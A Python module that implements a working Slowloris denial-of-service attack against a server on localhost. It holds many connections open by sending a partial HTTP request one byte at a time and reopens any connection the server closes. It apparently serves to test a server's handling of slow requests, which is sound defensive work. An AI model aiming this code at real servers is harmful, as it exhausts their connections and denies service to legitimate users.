"""Slowloris: many connections that each send a request one byte a second and never finish it."""

from __future__ import annotations

import contextlib
import selectors
import socket
import threading
import time

_REQUEST = b"GET /hello HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"x" * 4096
_AT_ONCE = 5  # bytes that go out with the connection, so that the server has begun a request: `GET /`


class Slowloris:
    """The attack, as long as the `with`: a connection that the server closes is replaced at once."""

    def __init__(self, port: int, connections: int, *, every_s: float = 1.0) -> None:
        self.port = port
        self.connections = connections
        self.every_s = every_s
        self.opened = 0  # connections in all
        self.closed = 0  # by the server
        self.bytes_sent = 0
        self._sent: dict[socket.socket, int] = {}
        self._selector = selectors.DefaultSelector()
        self._end = threading.Event()
        self._thread = threading.Thread(target=self._run, name="slowloris", daemon=True)

    def __enter__(self) -> Slowloris:
        for _ in range(self.connections):
            self._open()
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._end.set()
        self._thread.join()
        for connection in list(self._sent):
            self._drop(connection)
        self._selector.close()

    @property
    def standing(self) -> int:
        """Connections that are open now."""
        return len(self._sent)

    def _open(self) -> None:
        connection = socket.socket()
        try:
            connection.settimeout(5.0)
            connection.connect(("127.0.0.1", self.port))
            connection.setblocking(False)
            connection.send(_REQUEST[:_AT_ONCE])
        except OSError:
            connection.close()
            return
        self._sent[connection] = _AT_ONCE
        self._selector.register(connection, selectors.EVENT_READ)
        self.opened += 1

    def _drop(self, connection: socket.socket) -> None:
        with contextlib.suppress(KeyError, ValueError):
            self._selector.unregister(connection)
        self._sent.pop(connection, None)
        connection.close()

    def _run(self) -> None:
        due = time.monotonic() + self.every_s
        while not self._end.is_set():
            for key, _ in self._selector.select(max(0.0, min(0.1, due - time.monotonic()))):
                connection = key.fileobj
                if isinstance(connection, socket.socket):
                    self._heard(connection)
            if time.monotonic() >= due:
                due += self.every_s
                self._drip()

    def _heard(self, connection: socket.socket) -> None:
        """An answer (408) is read to its end; then the connection is replaced."""
        try:
            if connection.recv(4096):
                return
        except BlockingIOError:
            return
        except OSError:
            pass
        self.closed += 1
        self._drop(connection)
        self._open()

    def _drip(self) -> None:
        for connection, at in list(self._sent.items()):
            try:
                self.bytes_sent += connection.send(_REQUEST[at % len(_REQUEST) : at % len(_REQUEST) + 1])
                self._sent[connection] = at + 1
            except BlockingIOError:
                pass
            except OSError:
                self.closed += 1
                self._drop(connection)
                self._open()
